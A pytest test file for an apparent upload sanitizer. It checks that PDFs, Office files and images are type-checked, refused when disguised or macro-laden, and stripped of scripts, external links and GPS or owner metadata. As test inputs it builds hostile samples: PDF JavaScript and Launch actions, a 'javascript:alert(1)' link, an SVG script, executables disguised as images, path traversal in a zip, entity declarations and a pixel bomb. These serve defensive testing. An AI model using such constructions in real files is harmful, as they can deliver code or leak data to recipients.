"""The detected type of a file, and its clean copy without active, external, hidden or personal content."""

import io
import random
import struct
import zipfile
import zlib
from pathlib import Path

import pikepdf
import pytest
from PIL import ExifTags, Image

from dialogues.files.sanitizers import images, office, sanitizer_sandbox
from dialogues.files.sanitizers.errors import FileRejected
from dialogues.files.sanitizers.file_types import EXTENSIONS, sanitize_file
from dialogues.files.sanitizers.sanitizer_sandbox import sanitize_file_in_sandbox
from tests.dialogues.sample_files import (
    ACTIVE_CONTENT_MARKER,
    DOCX,
    EMF,
    EXCEL_TYPE,
    JAVASCRIPT_ACTION,
    JPEG,
    PDF,
    PNG,
    PRINTER_SETTINGS,
    WORD_TYPE,
    XLSX,
    content_types_part,
    docx,
    full_docx,
    full_xlsx,
    pdf,
    picture,
    relationships_part,
    xlsx,
    zip_parts,
)
from tiptracker.sandbox.sandbox import Sandbox


@pytest.mark.parametrize(
    ("extension", "content", "media_type"),
    [
        (".pdf", PDF, "application/pdf"),
        (".docx", DOCX, WORD_TYPE),
        (".xlsx", XLSX, EXCEL_TYPE),
        (".png", PNG, "image/png"),
        (".jpg", JPEG, "image/jpeg"),
        (".jpeg", JPEG, "image/jpeg"),
        (".txt", "Lengolo la ’Muso\r\n".encode(), "text/plain"),
        (".csv", "\ufeffdistrict;cases\r\nMaseru;3\r\n".encode(), "text/csv"),
    ],
)
def test_file_is_taken_for_what_its_content_is(extension, content, media_type):
    cleaned = sanitize_file(content, extension)

    assert cleaned.media_type == media_type
    assert sanitize_file_in_sandbox(content, extension, run=Sandbox(None)) == cleaned
    assert sanitize_file(cleaned.content, extension).media_type == media_type


def test_extensions_offered_are_those_that_are_taken():
    assert EXTENSIONS == (".pdf", ".docx", ".xlsx", ".txt", ".csv", ".jpg", ".jpeg", ".png")


def assert_rejected(content, extension, match):
    with pytest.raises(FileRejected, match=match):
        sanitize_file(content, extension)


def change_zip(content, **parts):
    """Return a zip with some parts changed. None leaves a part out."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        kept = {name: archive.read(name) for name in archive.namelist()}
    return zip_parts({name: part for name, part in (kept | parts).items() if part is not None})


@pytest.mark.parametrize(
    ("extension", "content"),
    [
        (".pdf", b"just words"),
        (".pdf", b"%PDF-1.7\n a truncated one"),
        (".pdf", PDF[: len(PDF) // 2]),
        (".pdf", b"MZ\x90\x00" + PDF),
        (".pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"),
        (".docx", DOCX[:60]),
        (".docx", DOCX[:-30]),
        (".docx", change_zip(DOCX, **{"[Content_Types].xml": None})),
        (".docx", zip_parts({"[Content_Types].xml": content_types_part(), "readme.xml": "<a/>"})),
        (".docx", change_zip(DOCX, **{"[Content_Types].xml": content_types_part()})),
        (".docx", docx(**{"word/document.xml": "<w:document>"})),
        (".docx", docx(**{"word/document.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'})),
        (".docx", docx(**{"../word/more.xml": "<a/>"})),
        (".docx", docx(**{"WORD/document.xml": "<a/>"})),
        (".png", PNG[:-40]),
        (".png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 100),
        (".jpg", JPEG[: len(JPEG) // 2]),
        (".jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 100),
        (".png", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    ],
    ids=[
        "words as pdf",
        "pdf in name alone",
        "pdf cut off",
        "program with a pdf behind",
        "pdf without a page",
        "zip cut off",
        "zip without its end",
        "zip without content types",
        "zip of nothing known",
        "zip without a main part",
        "part that is no xml",
        "part with a document type",
        "part outside the zip",
        "two parts of one name",
        "png cut off",
        "png in name alone",
        "jpeg cut off",
        "jpeg in name alone",
        "svg as png",
    ],
)
def test_file_that_is_not_what_its_name_says_is_refused(extension, content):
    assert_rejected(content, extension, "is damaged, or its content is not of type")


@pytest.mark.parametrize(
    ("extension", "content", "called"),
    [
        (".docx", PDF, "PDF"),
        (".pdf", PNG, "PNG"),
        (".xlsx", DOCX, "Word"),
        ("", XLSX, "Excel"),
        (".exe", PDF, "PDF"),
        (".txt", PDF, "PDF"),
        (".csv", XLSX, "Excel"),
    ],
)
def test_a_file_with_a_wrong_extension_is_refused_with_its_type(extension, content, called):
    assert_rejected(content, extension, f"is of type {called}, but its name does not say so")


@pytest.mark.parametrize("extension", [".exe", ".html", ".svg", ".zip", "", ".doc", ".docm"])
@pytest.mark.parametrize("content", [b"MZ\x90\x00 whatever it is", b"<html></html>", zip_parts({"a.txt": "a"})])
def test_a_file_of_another_type_is_refused_with_the_accepted_types(extension, content):
    assert_rejected(
        content, extension, r"Attach a PDF, a Word or Excel file \(.docx, .xlsx\), a text \(.txt, .csv\) or a"
    )


# --- Pictures ---------------------------------------------------------------------------------------------------------


def photograph(orientation=1):
    """Return a picture with a black upper left corner, GPS data, and a word after its end."""
    taken = Image.new("RGB", (64, 48), "white")
    taken.paste("black", (0, 0, 16, 16))
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.Base.Make] = "Telephone of Thabo"
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] = (29.0, 18.0, 36.0)
    made = io.BytesIO()
    taken.save(made, "JPEG", exif=exif, comment="Telephone of Thabo", quality=95)
    return made.getvalue() + b"<script>Telephone</script>"


@pytest.mark.parametrize(
    ("orientation", "size", "corner"),
    [
        (1, (64, 48), (4, 4)),
        (2, (64, 48), (60, 4)),
        (3, (64, 48), (60, 44)),
        (4, (64, 48), (4, 44)),
        (5, (48, 64), (4, 4)),
        (6, (48, 64), (44, 4)),
        (7, (48, 64), (44, 60)),
        (8, (48, 64), (4, 60)),
    ],
)
def test_picture_is_turned_upright_and_tells_neither_place_nor_owner(orientation, size, corner):
    sent = photograph(orientation)
    cleaned = sanitize_file(sent, ".jpg").content

    assert b"Telephone" in sent
    assert b"Telephone" not in cleaned
    with Image.open(io.BytesIO(cleaned)) as kept:
        assert (kept.format, kept.size, dict(kept.getexif())) == ("JPEG", size, {})
        assert "comment" not in kept.info
        assert kept.getpixel(corner)[0] < 40


def test_png_loses_its_texts_and_keeps_its_pixels_and_transparency():
    drawn = Image.effect_noise((64, 48), 50).convert("RGBA")
    drawn.putpixel((0, 0), (0, 0, 0, 0))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "Telephone of Thabo"
    sent = io.BytesIO()
    drawn.save(sent, "PNG", exif=exif, icc_profile=b"Telephone")
    cleaned = sanitize_file(sent.getvalue(), ".png").content

    with Image.open(io.BytesIO(cleaned)) as kept:
        assert kept.tobytes() == drawn.tobytes()
        assert kept.info == {}


@pytest.mark.parametrize("mode", ["1", "L", "P", "LA", "RGB", "RGBA", "I;16"])
def test_every_kind_of_png_is_encoded_again(mode):
    made = io.BytesIO()
    (Image.new(mode, (8, 8)) if mode == "I;16" else Image.effect_noise((8, 8), 9).convert(mode)).save(made, "PNG")

    with Image.open(io.BytesIO(sanitize_file(made.getvalue(), ".png").content)) as kept:
        assert kept.mode == mode


@pytest.mark.parametrize(("mode", "kept_as"), [("L", "L"), ("CMYK", "RGB")])
def test_every_kind_of_jpeg_is_encoded_again(mode, kept_as):
    with Image.open(io.BytesIO(sanitize_file(picture("JPEG", mode=mode), ".jpg").content)) as kept:
        assert kept.mode == kept_as


@pytest.mark.parametrize("orientation", [1, 6])
@pytest.mark.parametrize("progressive", [False, True])
@pytest.mark.parametrize("quality", [30, 60, 85, 95])
@pytest.mark.parametrize("mode", ["L", "RGB", "CMYK"])
def test_jpeg_is_never_larger_than_it_came(mode, quality, progressive, orientation):
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = orientation
    sent = picture("JPEG", (320, 240), mode, quality=quality, progressive=progressive, optimize=True, exif=exif)

    cleaned = sanitize_file(sent, ".jpg").content
    with Image.open(io.BytesIO(cleaned)) as kept, Image.open(io.BytesIO(sent)) as came:
        assert len(cleaned) <= len(sent)
        assert kept.size == (came.size if orientation == 1 else came.size[::-1])


def hard_compressed_png(drawn, *, colour, behind=b"", in_pixels=b""):
    """Return a PNG with a higher compression than Pillow's, a word in it, and `behind` after its compressed pixels."""
    line = len(drawn.tobytes()) // drawn.height
    lines = b"".join(b"\0" + drawn.tobytes()[at : at + line] for at in range(0, len(drawn.tobytes()), line))
    header = drawn.width.to_bytes(4) + drawn.height.to_bytes(4) + bytes((8, colour, 0, 0, 0))
    palette = [(b"PLTE", bytes(drawn.getpalette()))] if drawn.mode == "P" else []
    pixels = zlib.compress(lines + in_pixels, 9) + behind
    chunks = [
        (b"IHDR", header), *palette, (b"tEXt", b"By\0Telephone"), (b"IDAT", pixels[:99]), (b"IDAT", pixels[99:]),
        (b"IEND", b""),
    ]  # fmt: skip
    packed = [len(data).to_bytes(4) + name + data + zlib.crc32(name + data).to_bytes(4) for name, data in chunks]
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


def letter_like_image(mode):
    """Return lines of twelve letters, each another pattern, which filters make harder to compress."""
    chance = random.Random(3)  # noqa: S311 -- nothing secret
    letters = [Image.frombytes("L", (10, 10), chance.randbytes(100)) for _ in range(12)]
    page = Image.new("L", (200, 150), 255)
    for at in range(20 * 15):
        page.paste(chance.choice(letters), (at % 20 * 10, at // 20 * 10))
    return page.convert(mode)


@pytest.mark.parametrize(("mode", "colour"), [("L", 0), ("RGB", 2), ("RGBA", 6)])
def test_png_is_never_larger_than_it_came_and_keeps_every_pixel(mode, colour):
    drawn = letter_like_image(mode)
    sent, usual = hard_compressed_png(drawn, colour=colour), io.BytesIO()
    drawn.save(usual, "PNG")
    assert len(usual.getvalue()) > len(sent), "the test is about something"

    cleaned = sanitize_file(sent, ".png").content
    assert len(cleaned) <= len(sent)
    assert b"Telephone" not in cleaned
    with Image.open(io.BytesIO(cleaned)) as kept:
        assert (kept.mode, kept.tobytes()) == (mode, drawn.tobytes())


@pytest.mark.parametrize("hidden", [{"behind": b"<script>Telephone</script>"}, {"in_pixels": b"Telephone" * 9}])
def test_png_that_hides_something_among_its_pixels_is_drawn_or_refused(hidden):
    sent = hard_compressed_png(letter_like_image("RGB"), colour=2, **hidden)
    assert_rejected(sent, ".png", "is damaged")


def test_interlaced_png_has_as_many_bytes_as_the_standard_says():
    for size in ((1, 1), (4, 5), (13, 7), (64, 48)):
        for colour, depth, bits in ((0, 1, 1), (3, 4, 4), (2, 8, 24), (6, 16, 64)):
            header = struct.pack(">IIBBBBB", *size, depth, colour, 0, 0, 1)
            cells = [[interlace_pass(x, y) for x in range(size[0])] for y in range(size[1])]
            lines = [sum(each == number for each in row) for number in range(1, 8) for row in cells]
            assert images._length_of_pixels(header) == sum(1 + -(-line * bits // 8) for line in lines if line)


def interlace_pass(x, y):
    """Return the pass, of seven, that contains this pixel: the pattern of the standard (ISO 15948, 8.2)."""
    return int(
        ("16462646", "77777777", "56565656", "77777777", "36463646", "77777777", "56565656", "77777777")[y % 8][x % 8]
    )


def test_picture_made_to_fill_the_memory_is_refused(monkeypatch):
    monkeypatch.setattr(images, "MAX_PIXELS", 64 * 48 - 1)
    assert_rejected(PNG, ".png", "million pixels. Make the image")


def test_picture_that_pillow_calls_a_bomb_is_refused_before_it_is_unpacked():
    bomb = bytearray(PNG)
    bomb[16:24] = (60_000).to_bytes(4) * 2
    bomb[29:33] = zlib.crc32(bomb[12:29]).to_bytes(4)

    assert_rejected(bytes(bomb), ".png", "has more than 50 million pixels. Make the image smaller")


# --- PDFs -------------------------------------------------------------------------------------------------------------


def attach_file(pdf):
    pdf.attachments["list.exe"] = ACTIVE_CONTENT_MARKER


def embed_by_annotation(pdf):
    file = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F="a", EF=pikepdf.Dictionary(F=pdf.make_stream(ACTIVE_CONTENT_MARKER))
    )
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, FS=file)
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(note)]))


def add_button_script(pdf):
    """A script of a form field: first of a chain, and alone as an action of the field."""
    harmless = pikepdf.Dictionary(
        S=pikepdf.Name.Named, N=pikepdf.Name.NextPage, Next=pikepdf.Array([JAVASCRIPT_ACTION])
    )
    field = pikepdf.Dictionary(
        Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Btn, T="b", A=harmless, AA=pikepdf.Dictionary(F=JAVASCRIPT_ACTION)
    )
    pdf.pages[0].Annots = pikepdf.Array([pdf.make_indirect(field)])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([pdf.pages[0].Annots[0]]))


def set_root_keys(**keys):
    return lambda pdf: [pdf.Root.__setattr__(name, value) for name, value in keys.items()]


def draw_external_object(**keys):
    """Return a PDF with a drawing whose stream has the keys `keys`."""

    def change(pdf):
        drawing = pdf.make_stream(b"0 0 1 1 re f", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, **keys)
        pdf.pages[0].Resources.XObject = pikepdf.Dictionary(Fm0=drawing)

    return change


def link_to(address, **keys):
    link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=address, **keys)
    return lambda pdf: setattr(pdf.pages[0], "Annots", pikepdf.Array([pikepdf.Dictionary(A=link)]))


NETWORK_SHARE = "\\\\server\\" + ACTIVE_CONTENT_MARKER.decode()
LAUNCH_ACTION = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=ACTIVE_CONTENT_MARKER.decode())
UNKNOWN_ACTION = pikepdf.Dictionary(S=pikepdf.Name.Fetch, D=ACTIVE_CONTENT_MARKER.decode())
PROJECTION = pikepdf.Dictionary(Subtype=pikepdf.Name.Projection, Contents=ACTIVE_CONTENT_MARKER.decode())
RICH_MEDIA = pikepdf.Dictionary(
    Subtype=pikepdf.Name.RichMedia, RichMediaContent=pikepdf.Dictionary(X=ACTIVE_CONTENT_MARKER.decode())
)


@pytest.mark.parametrize(
    "change",
    [
        set_root_keys(OpenAction=JAVASCRIPT_ACTION),
        set_root_keys(AA=pikepdf.Dictionary(WC=JAVASCRIPT_ACTION)),
        set_root_keys(
            Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", JAVASCRIPT_ACTION])))
        ),
        set_root_keys(Outlines=pikepdf.Dictionary(First=pikepdf.Dictionary(Title="a", A=LAUNCH_ACTION))),
        set_root_keys(AcroForm=pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=ACTIVE_CONTENT_MARKER.decode())),
        set_root_keys(AF=pikepdf.Array([pikepdf.Dictionary(F=ACTIVE_CONTENT_MARKER.decode())])),
        attach_file,
        embed_by_annotation,
        add_button_script,
        lambda pdf: setattr(pdf.pages[0], "AA", pikepdf.Dictionary(O=JAVASCRIPT_ACTION)),
        lambda pdf: setattr(pdf.pages[0], "Annots", pikepdf.Array([RICH_MEDIA])),
        set_root_keys(
            Outlines=pikepdf.Dictionary(
                First=pikepdf.Dictionary(A=pikepdf.Dictionary(S=pikepdf.Name.Thread, F=NETWORK_SHARE))
            )
        ),
        link_to(f"file:{ACTIVE_CONTENT_MARKER.decode()}"),
        link_to(NETWORK_SHARE),
        link_to(ACTIVE_CONTENT_MARKER.decode()),
        link_to(pikepdf.Name(f"/{ACTIVE_CONTENT_MARKER.decode()}")),
        set_root_keys(SpiderInfo=pikepdf.Dictionary(C=NETWORK_SHARE)),
        set_root_keys(URI=pikepdf.Dictionary(Base=f"file:{ACTIVE_CONTENT_MARKER.decode()}")),
        set_root_keys(
            Names=pikepdf.Dictionary(
                URLS=pikepdf.Dictionary(Names=pikepdf.Array([NETWORK_SHARE, pikepdf.Dictionary()]))
            )
        ),
        set_root_keys(Outlines=pikepdf.Dictionary(First=pikepdf.Dictionary(A=UNKNOWN_ACTION))),
        set_root_keys(
            Outlines=pikepdf.Dictionary(
                First=pikepdf.Dictionary(
                    A=pikepdf.Dictionary(S=pikepdf.Name.GoTo, Next=pikepdf.Array([UNKNOWN_ACTION]))
                )
            )
        ),
        lambda pdf: setattr(pdf.pages[0], "Annots", pikepdf.Array([PROJECTION])),
        draw_external_object(Ref=pikepdf.Dictionary(F=NETWORK_SHARE, Page=0)),
        draw_external_object(F=NETWORK_SHARE, FFilter=pikepdf.Name.FlateDecode),
        draw_external_object(OPI=pikepdf.Dictionary({"/1.3": pikepdf.Dictionary(F=NETWORK_SHARE)})),
    ],
    ids=[
        "run when opened",
        "run when closed",
        "named script",
        "program behind a bookmark",
        "form in XML",
        "associated file",
        "attached file",
        "file behind a note",
        "script behind a button",
        "script of a page",
        "film",
        "thread of another file",
        "link to a file",
        "link to a share",
        "link to a file beside it",
        "link that is no text",
        "pages of the web it was made from",
        "where links begin",
        "named pages of the web",
        "action that nobody knows",
        "action that nobody knows behind another",
        "annotation that nobody knows",
        "page of another file",
        "content in another file",
        "picture of another file",
    ],
)
@pytest.mark.parametrize("packed", [pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate])
def test_scripts_and_attachments_are_removed_from_a_pdf(change, packed):
    sent = pdf(change, object_stream_mode=packed, compress_streams=False)
    assert ACTIVE_CONTENT_MARKER in pdf(
        change, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False
    )
    with pikepdf.open(io.BytesIO(sanitize_file(sent, ".pdf").content)) as kept:
        assert len(kept.pages) == 1
        assert b"To whom it may concern" in kept.pages[0].Contents.read_bytes()
        assert not kept.attachments
        told = b"".join(
            row.stream_dict.unparse() + row.read_raw_bytes() if isinstance(row, pikepdf.Stream) else row.unparse(True)
            for row in kept.objects
        )
    assert ACTIVE_CONTENT_MARKER not in told


@pytest.mark.parametrize("address", ["https://example.org/report", "HTTP://example.org", "mailto:a@example.org"])
def test_links_and_notes_of_a_pdf_stay(address):
    link = pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=address))
    cleaned = sanitize_file(
        pdf(lambda pdf: setattr(pdf.pages[0], "Annots", pikepdf.Array([link, RICH_MEDIA]))), ".pdf"
    ).content

    with pikepdf.open(io.BytesIO(cleaned)) as kept:
        (note,) = kept.pages[0].Annots
        assert str(note.A.URI) == address


def test_drawing_that_lies_in_the_pdf_itself_stays():
    with pikepdf.open(io.BytesIO(sanitize_file(pdf(draw_external_object(F=NETWORK_SHARE)), ".pdf").content)) as kept:
        assert kept.pages[0].Resources.XObject.Fm0.read_bytes() == b"0 0 1 1 re f"


@pytest.mark.parametrize("user", ["", "a secret"], ids=["only against changes", "to open it"])
def test_a_pdf_with_a_password_is_refused_with_a_hint(user):
    locked = pdf(encryption=pikepdf.Encryption(owner="another secret", user=user))
    assert_rejected(locked, ".pdf", "has a password, or is protected against changes. Print it to a PDF without a")


def test_a_pdf_with_nothing_left_after_cleaning_is_refused():
    assert_rejected(
        pdf(set_root_keys(Collection=pikepdf.Dictionary())),
        ".pdf",
        "is a portfolio that contains other files. Attach each",
    )
    assert_rejected(
        pdf(set_root_keys(NeedsRendering=True)), ".pdf", "is a form that only Adobe’s own programs can show. Print it"
    )


def test_data_after_or_between_the_parts_of_a_file_is_removed():
    assert (
        ACTIVE_CONTENT_MARKER
        not in sanitize_file(PDF[:-6] + b"%" + ACTIVE_CONTENT_MARKER + b"\n%%EOF\n", ".pdf").content
    )
    assert (
        ACTIVE_CONTENT_MARKER
        not in sanitize_file(
            DOCX[:-2] + len(ACTIVE_CONTENT_MARKER).to_bytes(2, "little") + ACTIVE_CONTENT_MARKER, ".docx"
        ).content
    )
    assert ACTIVE_CONTENT_MARKER not in sanitize_file(PNG + ACTIVE_CONTENT_MARKER, ".png").content


# --- Word and Excel ---------------------------------------------------------------------------------------------------


def test_document_keeps_its_parts_and_its_pictures_tell_no_place():
    pictures = '<a:blip r:embed="r0"/><a:blip r:embed="r1"/>'
    sent = docx_with_body(
        f"<w:p><w:r><w:t>To whom it may concern</w:t><w:drawing>{pictures}</w:drawing></w:r></w:p>",
        **{
            "word/_rels/document.xml.rels": relationships_part(
                ("image", "media/image1.jpg"), ("image", "media/drawing.emf")
            ),
            "word/media/image1.jpg": photograph(),
            "word/media/drawing.emf": EMF,
        },
    )
    with zipfile.ZipFile(io.BytesIO(sanitize_file(sent, ".docx").content)) as kept:
        assert b"To whom it may concern" in kept.read("word/document.xml")
        assert kept.read("word/media/drawing.emf") == EMF
        assert b"Telephone" not in kept.read("word/media/image1.jpg")


@pytest.mark.parametrize(
    ("name", "part"),
    [
        ("word/vbaProject.bin", b"a"),
        ("word/vbaData.xml", "<a/>"),
        (
            "[Content_Types].xml",
            content_types_part(("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")),
        ),
        ("[Content_Types].xml", content_types_part(("word/x.bin", "application/vnd.ms-office.vbaProject"))),
    ],
)
def test_document_with_macros_is_refused(name, part):
    assert_rejected(docx(**{name: part}), ".docx", "has macros. Save the file without macros")


def test_workbook_with_macros_of_old_is_refused():
    assert_rejected(xlsx(**{"xl/macrosheets/sheet1.xml": "<a/>"}), ".xlsx", "has macros. Save the file without macros")


@pytest.mark.parametrize(
    "name",
    [
        "word/embeddings/oleObject1.bin",
        "word/embeddings/list.xlsx",
        "word/activeX/activeX1.bin",
        "word/a.html",
        "run.exe",
    ],
)
def test_document_with_another_file_inside_is_refused_and_names_it(name):
    assert_rejected(
        docx(**{name: b"a"}),
        ".docx",
        rf"has another file inside it \({name.rpartition('/')[2]}\). Remove the",
    )


REMOVED_PARTS = {
    "customXml/item1.xml",
    "word/printerSettings/printerSettings1.bin",
    "word/charts/_rels/chart1.xml.rels",
    "word/embeddings/Sheet.xlsx",
    "xl/printerSettings/printerSettings1.bin",
}
"""Parts that no reader of the document misses."""


@pytest.mark.parametrize(
    ("sent", "extension", "said"),
    [
        (
            full_docx(),
            ".docx",
            {
                "word/document.xml": [
                    "PA",
                    "GE ",
                    "The law",
                    "Minister of Police",
                    "m:f",
                    "v:imagedata",
                    "w:hyperlink",
                ],
                "word/charts/chart1.xml": ["Sheet1!$A$1:$A$5"],
            },
        ),
        (
            full_xlsx(),
            ".xlsx",
            {
                "xl/workbook.xml": ["One!$A:$B,One!$1:$3"],
                "xl/worksheets/sheet1.xml": ["SUM(B1:B9)", "Cases[[#This Row],[a|b]]", "'It''s (2)'!A1"],
                "xl/drawings/vmlDrawing1.vml": ["x:ClientData"],
            },
        ),
    ],
)
def test_usual_content_of_office_files_is_kept(sent, extension, said):
    with (
        zipfile.ZipFile(io.BytesIO(sent)) as made,
        zipfile.ZipFile(io.BytesIO(sanitize_file(sent, extension).content)) as kept,
    ):
        assert sorted(kept.namelist()) == sorted(set(made.namelist()) - REMOVED_PARTS)
        for name, pieces in said.items():
            part = kept.read(name).decode()
            assert [piece for piece in pieces if piece not in part] == []


@pytest.mark.parametrize(
    ("name", "said"),
    [
        (
            "letter.docx",
            {
                "word/document.xml": ["In a box", "w:footnoteReference", "Maseru", "the law"],
                "word/_rels/document.xml.rels": ["https://example.org/law"],
                "word/header1.xml": [" PAGE ", " NUMPAGES "],
                "word/footnotes.xml": ["A note."],
            },
        ),
        (
            "figures.xlsx",
            {
                "xl/workbook.xml": ["Cases 2021", "Total"],
                "xl/worksheets/sheet1.xml": ["SUM(B2:B3)", "conditionalFormatting", "autoFilter", "pane "],
                "xl/worksheets/sheet2.xml": ['HYPERLINK("', "'Cases 2021'!B4*2"],
                "xl/charts/chart1.xml": ["'Cases 2021'!$B$2:$B$3"],
                "xl/comments1.xml": ["A note"],
            },
        ),
    ],
)
def test_file_that_libreoffice_wrote_keeps_what_stands_in_it(name, said):
    sent = (Path(__file__).parent / "fixtures" / name).read_bytes()
    with zipfile.ZipFile(io.BytesIO(sanitize_file(sent, name[-5:]).content)) as kept:
        for part, pieces in said.items():
            assert [piece for piece in pieces if piece not in kept.read(part).decode()] == []


@pytest.mark.parametrize("name", ["word/media/drawing.svg", "word/printerSettings/p.bin", "word/embeddings/a.xlsx"])
def test_parts_that_duplicate_another_part_are_left_out(name):
    """A drawing beside its copy in pixels, printer settings, the workbook of a chart."""
    kinds = {"svg": "image", "bin": "printerSettings", "xlsx": "package"}
    source = "word/charts/_rels/chart1.xml.rels" if name.endswith("xlsx") else "word/_rels/document.xml.rels"
    drawn = relationships_part((kinds[name.rpartition(".")[2]], f"/{name}"))
    sent = docx(**{name: b"MZ\x90\x00", source: drawn, "word/charts/chart1.xml": "<a/>"})

    with zipfile.ZipFile(io.BytesIO(sanitize_file(sent, ".docx").content)) as kept:
        assert name not in kept.namelist()
    assert_rejected(docx(**{name: b"MZ\x90\x00"}), ".docx", "has another file inside it")


@pytest.mark.parametrize(
    ("name", "part", "kind"),
    [
        ("word/printerSettings/p.bin", b"MZ\x90\x00", None),
        ("word/printerSettings/p.bin", PRINTER_SETTINGS, None),
        ("word/printerSettings/p.bin", PRINTER_SETTINGS, "oleObject"),
        ("word/printerSettings/p.bin", PRINTER_SETTINGS, "image"),
        ("word/printerSettings/p.bin", PRINTER_SETTINGS, "styles"),
        ("word/media/p.emf", EMF, "oleObject"),
        ("word/media/p.emf", EMF, "package"),
        ("word/media/p.emf", EMF, "font"),
        ("word/media/p.emf", b"MZ\x90\x00" * 20, "image"),
        ("word/media/p.wmf", b"MZ\x90\x00" * 20, "image"),
        ("word/media/p.gif", b"MZ\x90\x00" * 20, "image"),
        ("word/media/p.bmp", b"BMZ\x90\x00" * 20, "image"),
        ("word/media/p.tif", b"MZ\x90\x00" * 20, "image"),
        ("word/fonts/p.odttf", b"MZ\x90\x00" * 20, "font"),
    ],
)
def test_document_with_another_file_in_disguise_is_refused(name, part, kind):
    body = '<w:drawing><a:blip r:embed="r0"/></w:drawing>' if kind == "image" else ""
    rows = [("fontTable", "fontTable.xml")] if kind == "font" else [(kind, f"/{name}")] if kind else []
    more = {
        name: part,
        "word/_rels/document.xml.rels": relationships_part(*rows),
        "word/fontTable.xml": (
            '<w:fonts xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<w:font><w:embedRegular r:id="r0"/></w:font></w:fonts>'
        ),
        "word/_rels/fontTable.xml.rels": relationships_part(("font", f"/{name}")),
    }
    if kind != "font":
        del more["word/_rels/fontTable.xml.rels"]
    assert_rejected(docx_with_body(body, **more), ".docx", r"has another file inside it \(p\.")


@pytest.mark.parametrize(
    ("kind", "target", "match"),
    [
        ("vbaProject", "media/a.emf", "has macros"),
        ("keyMapCustomizations", "a.xml", "has macros"),
        ("customUI", "a.xml", r"contains something that cannot be attached \(customui\)\. Save it as a PDF"),
        ("../../else/sort", "a.xml", r"contains something that cannot be attached \(sort\)\. Save it as a PDF"),
        ("image", "https://example.org/a.png", "something outside the file"),
        ("image", "//example.org/a.png", "something outside the file"),
        ("styles", "media/a.bin#a.xml", "something outside the file"),
        ("styles", "media/a.bin%23a.xml", "something outside the file"),
        ("hyperlink", "file://server/share/list.xlsx", "link to something that is neither a web page nor"),
    ],
)
def test_relation_that_is_not_known_to_do_no_harm_is_refused(kind, target, match):
    assert_rejected(docx(**{"word/_rels/document.xml.rels": relationships_part((kind, target))}), ".docx", match)


EXTERNAL_IMAGE = relationships_part(("image", "https://example.org/a.png", "External"))
INTERNAL_IMAGE = relationships_part(("image", "media/a.png"))


@pytest.mark.parametrize(
    ("name", "part"),
    [
        ("word/_rels/document.xml.rels", EXTERNAL_IMAGE.replace(" Id=", ' xmlns:x="x" x:TargetMode="Internal" Id=')),
        ("word/_rels/document.xml.rels", INTERNAL_IMAGE.replace(" Id=", ' xmlns:x="x" x:Type="/hyperlink" Id=')),
        ("word/_rels/document.xml.rels", INTERNAL_IMAGE.replace(" Id=", ' xmlns:x="x" x:TargetMode="External" Id=')),
        ("word/_rels/document.xml.rels", INTERNAL_IMAGE.replace("/package/2006/", "/package/2007/")),
        (
            "[Content_Types].xml",
            content_types_part(
                ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
                ("word/a.xml", f"{WORD_TYPE}.main+xml"),
            ).replace(" ContentType=", ' xmlns:x="x" x:ContentType="a" ContentType='),
        ),
        (
            "[Content_Types].xml",
            content_types_part(("word/document.xml", f"{WORD_TYPE}.main+xml")).replace("content-types", "other"),
        ),
    ],
)
def test_part_that_readers_do_not_read_alike_is_refused(name, part):
    assert_rejected(docx(**{name: part}), ".docx", "is damaged, or its content")


@pytest.mark.parametrize("mode", ["external", "External ", ""])
def test_relation_that_is_neither_inside_nor_outside_is_refused(mode):
    sent = docx(**{"word/_rels/document.xml.rels": relationships_part(("styles", "styles.xml", mode))})
    assert_rejected(sent, ".docx", "something outside the file")


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("image", "https://example.org/seen.png"),
        ("oleObject", "file://server/share/list.xlsx"),
        ("frame", "https://example.org/"),
        ("hyperlink", "file://server/share/list.xlsx"),
        ("hyperlink", "javascript:alert(1)"),
    ],
)
def test_document_that_draws_on_what_lies_outside_is_refused(kind, target):
    sent = docx(**{"word/_rels/document.xml.rels": relationships_part((kind, target, "External"))})
    assert_rejected(sent, ".docx", "neither a web page nor" if kind == "hyperlink" else "something outside the file")


def test_links_that_a_person_presses_stay():
    links = relationships_part(
        ("hyperlink", "https://example.org/", "External"), ("hyperlink", "mailto:a@example.org", "External")
    )
    body = '<w:p><w:hyperlink r:id="r0"/><w:hyperlink r:id="r1"/></w:p>'
    cleaned = sanitize_file(docx_with_body(body, **{"word/_rels/document.xml.rels": links}), ".docx").content
    with zipfile.ZipFile(io.BytesIO(cleaned)) as kept:
        said = kept.read("word/_rels/document.xml.rels").decode()
    assert 'Target="https://example.org/" TargetMode="External"' in said
